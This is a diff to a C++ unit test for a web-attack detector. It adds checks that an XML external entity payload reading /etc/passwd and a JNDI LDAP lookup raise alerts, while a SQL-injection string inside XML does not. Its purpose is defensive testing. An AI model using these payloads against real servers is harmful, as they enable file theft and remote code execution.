@@ -298,6 +298,16 @@ TEST_CASE("web attacks: a form body is read, other bodies are not; SQL identifie
     CHECK(post("application/json", R"({"html":"<script>alert(1)</script>","path":"../../../x"})")
               .empty());
     CHECK(post("text/xml", "<a><![CDATA[x]]></a>").empty());
+    CHECK(post("text/xml", R"(<a path="C:\Windows\x">' or 'a'='a</a>)").empty());
+    // But an XML body's external entity, and a JNDI lookup in any body, alert.
+    const auto xxe = post("application/xml", R"(<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x )"
+                                             R"(SYSTEM "file:///etc/passwd">]><r>&x;</r>)");
+    REQUIRE(xxe.size() == 1);
+    CHECK(xxe[0].info == "potential xxe injection (suspicious)");
+    CHECK(xxe[0].matched_field == "http.request_body");
+    const auto json = post("application/json", R"({"name":"${jndi:ldap://10.9.0.1/a}"})");
+    REQUIRE(json.size() == 1);
+    CHECK(json[0].info == "potential remote code execution (suspicious)");
     // InfluxQL as Grafana sends it: "..." are identifiers, not string literals.
     CHECK(f.get("grafana.example",
                 "/query?q=SELECT+mean(%22value%22)+FROM+%22cpu%22+WHERE+%22host%22+%3D+%27a%27+"
